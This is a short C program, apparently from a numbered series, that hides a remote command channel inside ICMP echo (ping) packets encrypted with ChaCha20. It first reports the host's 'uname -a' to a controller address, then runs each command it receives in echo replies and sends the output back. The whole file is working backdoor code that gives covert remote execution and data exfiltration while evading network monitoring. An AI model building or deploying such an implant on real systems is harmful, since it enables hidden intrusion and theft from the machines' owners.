/*
 * AN0401: commands in ICMP echoes on a raw socket, under ChaCha20.
 * usage: echo ADDRESS
 */
#include <arpa/inet.h>
#include <netinet/ip_icmp.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>

#include "answers.h"
#include "dressed.h"
#include "link.h"

#define HEAD 8
#define ID 0x4357

static uint16_t checksum(const uint8_t *bytes, size_t len)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < len; i += 2)
		sum += (uint32_t)bytes[i] << 8 | (i + 1 < len ? bytes[i + 1] : 0);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void say(int fd, const char *text, size_t len, int number)
{
	static uint8_t bytes[DRESSED_MAX];
	struct icmphdr head = { .type = ICMP_ECHO };
	size_t size = dressed_seal(bytes, HEAD, text, len, 0);

	head.un.echo.id = htons(ID);
	head.un.echo.sequence = htons((uint16_t)number);
	memcpy(bytes, &head, HEAD);
	head.checksum = checksum(bytes, size);
	memcpy(bytes, &head, HEAD);
	link_send(fd, bytes, size);
}

/* Behind an IP header, of echo replies alone. */
static int hear(int fd, char *text, size_t room)
{
	static uint8_t bytes[DRESSED_MAX];

	for (;;) {
		ssize_t got = recv(fd, bytes, sizeof(bytes), 0);
		size_t ip = (size_t)(bytes[0] & 15) * 4;

		if (got <= 0)
			return -1;
		if ((size_t)got >= ip + HEAD && bytes[ip] == ICMP_ECHOREPLY)
			return dressed_open(bytes + ip, (size_t)got - ip, HEAD, text, room);
	}
}

int main(int argc, char **argv)
{
	static char text[ANSWER_MAX];
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct timeval patience = { .tv_sec = 15 };
	char command[256];
	size_t len;
	int number = 0;
	int fd;

	if (argc != 2)
		return 64;
	link_refuse_others(argv[1]);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	inet_pton(AF_INET, argv[1], &to.sin_addr);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience)) < 0 ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		link_fail("raw socket");
	say(fd, text, answer("uname -a", text), number++);
	while (hear(fd, command, sizeof(command)) >= 0) {
		len = answer(command, text);
		if (len == 0)
			return 0;
		say(fd, text, len, number++);
	}
	return 1;
}
